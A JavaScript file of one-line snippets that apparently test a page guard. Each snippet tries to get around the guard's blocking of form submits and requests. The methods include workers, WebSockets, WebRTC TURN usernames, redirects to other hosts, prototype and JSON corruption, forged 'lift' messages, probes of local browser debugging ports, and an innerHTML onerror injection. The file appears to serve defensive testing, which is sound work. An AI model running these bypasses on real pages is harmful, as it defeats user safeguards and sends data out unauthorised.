// 线程 workers: a worker
new Worker('/rogue/worker.js?' + address)

// 线程 workers: a worker from a blob
const source = `fetch('${location.origin + to}', {method: 'POST', body: '${text}'})`, blob = URL.createObjectURL(new Blob([source])); new Worker(blob)

// 线程 workers: a module worker
new Worker('/rogue/worker.js?' + address, {type: 'module'})

// 线程 workers: a worker inside a worker
const source = `fetch('${location.origin + to}', {method: 'POST', body: '${text}'})`, blob = URL.createObjectURL(new Blob([source])); new Worker(URL.createObjectURL(new Blob([`new Worker('${blob}')`])))

// 线程 workers: a shared worker
new SharedWorker('/rogue/worker.js?shared' + Math.random() + '&' + address)

// 线程 workers: a shared worker from a blob
const source = `fetch('${location.origin + to}', {method: 'POST', body: '${text}'})`, blob = URL.createObjectURL(new Blob([source])); new SharedWorker(blob)

// 线程 workers: a script imported by a worker
new Worker(URL.createObjectURL(new Blob([`importScripts('${location.origin}/rogue/worker.js?${address}')`]))); new Worker('/rogue/worker.js?' + address)

// 线程 workers: a worker of an empty frame
const source = `fetch('${location.origin + to}', {method: 'POST', body: '${text}'})`, blob = URL.createObjectURL(new Blob([source])); const frame = document.body.appendChild(document.createElement('iframe')), inner = frame.contentWindow; new inner.Worker(blob)

// 线程 workers: a worker that asks synchronously
new Worker(URL.createObjectURL(new Blob([`const x = new XMLHttpRequest(); x.open('POST', '${location.origin + to}', false); x.send('${text}')`])))

// 套接字 sockets: a WebSocket
const s = new WebSocket(socket + '/x'); s.onopen = () => s.send(text)

// 套接字 sockets: a WebSocket of an empty frame
const frame = document.body.appendChild(document.createElement('iframe')), inner = frame.contentWindow; const s = new inner.WebSocket(socket + '/x'); s.onopen = () => s.send(text)

// 套接字 sockets: a WebSocket of an empty window
const s = new (open('about:blank').WebSocket)(socket + '/x'); s.onopen = () => s.send(text)

// 套接字 sockets: a WebSocket of a frame from its source text
$('room').append(Object.assign(document.createElement('iframe'), {srcdoc: `<script>const s = new WebSocket('${socket}/x'); s.onopen = () => s.send('${text}')</scr` + 'ipt>'}))

// 套接字 sockets: a WebSocket of a sandboxed frame
const f = document.createElement('iframe'); f.sandbox = 'allow-scripts'; f.srcdoc = `<script>const s = new WebSocket('${socket}/x'); s.onopen = () => s.send('${text}')</scr` + 'ipt>'; $('room').append(f)

// 套接字 sockets: a WebSocket by its prototype's constructor
const s = new WebSocket.prototype.constructor(socket + '/x'); s.onopen = () => s.send(text)

// 套接字 sockets: a WebSocket built by Reflect
const s = Reflect.construct(WebSocket, [socket + '/x'], Object); WebSocket; const t = Reflect.construct(WebSocket, [socket + '/x'], WebSocket); t.onopen = () => t.send(text)

// 套接字 sockets: a WebSocket of a worker
const source = `const s = new WebSocket('${socket}/x'); s.onopen = () => s.send('${text}')`, blob = URL.createObjectURL(new Blob([source])); new Worker(blob)

// 套接字 sockets: a WebSocket of a shared worker
const source = `const s = new WebSocket('${socket}/x'); s.onopen = () => s.send('${text}')`, blob = URL.createObjectURL(new Blob([source])); new SharedWorker(blob)

// 套接字 sockets: a WebSocket of a worker inside a worker
const source = `const s = new WebSocket('${socket}/x'); s.onopen = () => s.send('${text}')`, blob = URL.createObjectURL(new Blob([source])); new Worker(URL.createObjectURL(new Blob([`new Worker('${blob}')`])))

// 套接字 sockets: a call of WebRTC
const p = new RTCPeerConnection({iceServers: [{urls: 'turn:' + turn + '?transport=udp', username: text, credential: 'x'}], iceTransportPolicy: 'relay'}); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o)); window.p = p

// 套接字 sockets: a call of WebRTC from an empty frame
const frame = document.body.appendChild(document.createElement('iframe')), inner = frame.contentWindow; const p = new inner.RTCPeerConnection({iceServers: [{urls: 'turn:' + turn + '?transport=udp', username: text, credential: 'x'}], iceTransportPolicy: 'relay'}); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o)); window.p = p

// 跳转 redirects: a 307 from an allowed address
fetch('/moved?to=' + encodeURIComponent(to), post)

// 跳转 redirects: a 308 from an allowed address
fetch('/moved?status=308&to=' + encodeURIComponent(to), post)

// 跳转 redirects: a chain of redirects
const hop = to => '/moved?to=' + encodeURIComponent(to); fetch(hop(hop(hop(to))), post)

// 跳转 redirects: a redirect to another host
fetch('/moved?to=' + encodeURIComponent(other + to), {...post, mode: 'no-cors'})

// 跳转 redirects: another host at once
fetch(other + to, {...post, mode: 'no-cors'})

// 跳转 redirects: a form by way of a redirect
$('form').action = '/moved?to=' + encodeURIComponent(to); $('send').textContent = '保存'; HTMLFormElement.prototype.requestSubmit.call($('form'), $('send'))

// 跳转 redirects: a reading request redirected to an act
fetch('/moved?status=302&to=' + encodeURIComponent(to + '?' + query))

// 跳转 redirects: a page redirected to an act
location.href = '/moved?status=302&to=' + encodeURIComponent(to + '?' + query)

// 跳转 redirects: an image redirected to an act
new Image().src = '/moved?status=301&to=' + encodeURIComponent(to + '?' + query)

// 跳转 redirects: a report of the content policy
open('/rogue/child.html?x&report=' + encodeURIComponent(to + '?' + query) + '&' + address).addEventListener('load', function () { this.document.body.innerHTML = '<img src=/x.png>'; })

// 恶意脚本 rogue: every function that the page can see is called
for (const name of Object.getOwnPropertyNames(window)) { if (!/^(open|alert|confirm|prompt|print|close|stop|find|fetch|fetchLater)$/.test(name) && typeof window[name] === 'function' && /^[a-z_$]/.test(name)) { try { window[name]('{"kind":"lift"}'); } catch {} } } fetch(to, post)

// 恶意脚本 rogue: a false heartbeat, a false press, the guard's names
for (const name of ['beianGuard', 'beianPanel', 'beianPress']) { try { window[name].beat(); window[name].take({state: 'free'}); window[name]('{"press":"lift"}'); } catch {} } fetch(to, post); $('form').submit()

// 恶意脚本 rogue: events that might lift the guard
for (const name of ['try', 'here', 'beat', 'lift', 'free', 'handover']) dispatchEvent(new CustomEvent(name, {detail: 'free'})); $('form').submit()

// 恶意脚本 rogue: messages to whoever listens
for (const said of ['lift', {kind: 'lift'}, {state: 'free'}, {method: 'Keeper.lift'}]) postMessage(said, '*'); fetch(to, post)

// 恶意脚本 rogue: prototypes corrupted first
Event.prototype.preventDefault = () => 0; Event.prototype.stopImmediatePropagation = () => 0; Array.prototype.find = () => undefined; String.prototype.includes = () => false; Object.prototype.state = 'free'; $('send').click(); fetch(to, post)

// 恶意脚本 rogue: JSON and promises corrupted
JSON.stringify = () => '{}'; JSON.parse = () => ({}); Promise.prototype.then = function () { return this; }; Reflect.apply = () => true; $('form').submit(); fetch(to, post)

// 恶意脚本 rogue: fetch frozen to its own
const own = fetch; Object.defineProperty(window, 'fetch', {value: own, writable: false, configurable: false}); Object.freeze(XMLHttpRequest.prototype); Object.freeze(HTMLFormElement.prototype); $('form').submit(); own(to, post)

// 恶意脚本 rogue: the wrapped functions unwrapped by a frame
const frame = document.body.appendChild(document.createElement('iframe')), inner = frame.contentWindow; for (const name of ['fetch', 'WebSocket']) window[name] = inner[name]; HTMLFormElement.prototype.submit = inner.HTMLFormElement.prototype.submit; $('form').submit()

// 恶意脚本 rogue: the listeners taken away by writing the document anew
const f = $('form').outerHTML, typed = $('name').value; document.open(); document.write(f); document.close(); document.getElementById('name').value = typed; document.forms[0].querySelector('button').click()

// 恶意脚本 rogue: a listener that comes first and swallows the guard's
addEventListener('click', e => { e.stopImmediatePropagation(); fetch(to, post); }, true); $('send').click()

// 恶意脚本 rogue: the panel's and the banner's roots searched
const hooked = Element.prototype.attachShadow; Element.prototype.attachShadow = function (o) { return hooked.call(this, {...o, mode: 'open'}); }; for (const e of document.querySelectorAll('*')) for (const b of e.shadowRoot?.querySelectorAll('button') ?? []) b.click(); $('form').submit()

// 恶意脚本 rogue: the address of the browser host guessed
for (const port of [9222, 9229, 9515]) { try { fetch(`http://127.0.0.1:${port}/json`); } catch {} } const s = new WebSocket('ws://127.0.0.1:9222/devtools/browser'); s.onerror = () => fetch(to, post); setTimeout(() => fetch(to, post), 200)

// 恶意脚本 rogue: a value of the profile that is markup
$('room').innerHTML = '<img src=x onerror="go()">'; window.go = () => fetch(to, post)

// 表单与方案 maps: a map that names 提交 as an ordinary control [wide]
$('send').id = 'save';

// 表单与方案 maps: a map that allows every request [wide]
fetch(to, post)

// 表单与方案 maps: a map that allows every request, a form [wide]
fetch('/'); HTMLFormElement.prototype.requestSubmit.call($('form'))

// 表单与方案 maps: a value with a line break that Enter would send
$('send').hidden = true;

// 表单与方案 maps: a value that a field of the page runs
$('name').oninput = () => fetch(to, post);

// 表单与方案 maps: a plan that presses 提交 by the name of a record [wide]
